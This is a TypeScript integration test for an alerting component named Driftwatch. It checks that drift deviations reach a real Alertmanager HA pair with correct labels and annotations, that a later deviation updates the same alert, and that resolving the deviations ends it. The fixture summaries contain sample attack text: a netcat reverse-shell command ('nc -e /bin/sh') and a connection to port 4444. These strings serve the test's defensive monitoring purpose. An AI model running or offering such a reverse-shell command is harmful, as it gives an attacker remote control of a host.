/**
 * Against the real Alertmanager (Debian `prometheus-alertmanager`, two instances as an HA pair):
 * deviations driven through a real bus and the alerting component are read back from
 * Alertmanager's own API with their labels and annotations; an update (a member joining a group)
 * is the same alert there with its annotations updated; resolving ends them there.
 */
import t from 'tap';
import { join } from 'node:path';
import { CollectorBus } from '../../../collector/events.js';
import { SqliteStore } from '../../../collector/store/sqlite/store.js';
import { alerts, BINARY, installed, poll, startAlertmanagers, type AmAlert } from '../../helpers/alertmanager-process.js';
import { alertingConfig, deviation, FAST, startAlerting, withStatus } from '../../helpers/alerting.js';

t.test('real Alertmanager HA pair: labels, annotations, resolution', { skip: installed ? false : `${BINARY} is not installed (apt-get install prometheus-alertmanager)` }, async (t) => {
  const { ams, stop } = await startAlertmanagers(t.testdir(), ['am-a', 'am-b']);
  t.teardown(stop);
  const db = new SqliteStore({ dataDir: join(t.testdir(), 'db') });
  t.teardown(() => db.close());
  const bus = new CollectorBus();
  const alerting = startAlerting(db, bus, alertingConfig({ ...FAST, sinks: [{ name: 'am', type: 'alertmanager', urls: ams.map((a) => a.url) }] }));
  t.teardown(() => alerting.close());
  await alerting.start();

  // Critical: sent at once as its workload's group, which a later deviation joins as an update.
  const d = deviation({ severity: 'critical', firstSeenMs: Date.now() - 60_000, summary: 'new process /usr/bin/nc -e /bin/sh <evil> in payments/api', pods: ['api-5d9c7-abcde', 'api-5d9c7-fghij'] });
  bus.emit({ type: 'deviation.created', deviation: d });
  const ours = (a: AmAlert): boolean => a.labels.alertname === 'DriftwatchDeviationGroup' && a.labels.workload === 'api';

  let labels: Record<string, string> | undefined;
  for (const am of ams) {
    let got: AmAlert | undefined;
    await poll(async () => (got = (await alerts(am.url)).find(ours)) !== undefined);
    t.match(got!.labels, {
      alertname: 'DriftwatchDeviationGroup',
      severity: 'critical',
      cluster: 'test',
      namespace: 'payments',
      workload: 'api',
      workload_kind: 'Deployment',
      container: 'app',
      deviation_group: String(d.firstSeenMs),
    }, `${am.url}: labels`);
    labels ??= got!.labels;
    t.equal(got!.annotations.summary, d.summary, 'summary annotation: the one member, text intact');
    t.match(got!.annotations.description, /\[critical\] new process \/usr\/bin\/nc -e \/bin\/sh <evil>/);
    t.equal(got!.annotations.sequence, '1');
    t.match(got!.annotations.url, /^https:\/\/driftwatch\.example\/ui\//);
    t.equal(Date.parse(got!.startsAt), d.firstSeenMs, 'startsAt = first seen');
    t.ok(Date.parse(got!.endsAt) > Date.now(), 'still firing for a while without a re-post');
    t.equal(got!.status.state, 'active');
  }

  const later = deviation({ severity: 'medium', firstSeenMs: d.firstSeenMs + 2000, summary: 'new connection to 198.51.100.66:4444 in payments/api' });
  bus.emit({ type: 'deviation.created', deviation: later });
  for (const am of ams) {
    await poll(async () => (await alerts(am.url)).some((a) => ours(a) && a.annotations.description.includes('198.51.100.66:4444')));
    const mine = (await alerts(am.url)).filter(ours);
    t.equal(mine.length, 1, `${am.url}: the update is the same alert …`);
    t.same(mine[0]!.labels, labels, '… with the same labels');
    t.equal(mine[0]!.annotations.sequence, '2', '… and its annotations updated');
  }

  for (const x of [d, later]) bus.emit({ type: 'deviation.status', deviation: withStatus(x, 'added-to-baseline'), previous: 'open', actor: 'alice' });
  for (const am of ams) {
    // Alertmanager drops resolved alerts from its list, or shows them with endsAt in the past.
    await poll(async () => {
      const a = (await alerts(am.url)).find(ours);
      return !a || Date.parse(a.endsAt) <= Date.now();
    });
    t.pass(`${am.url}: the alert ended`);
  }
});
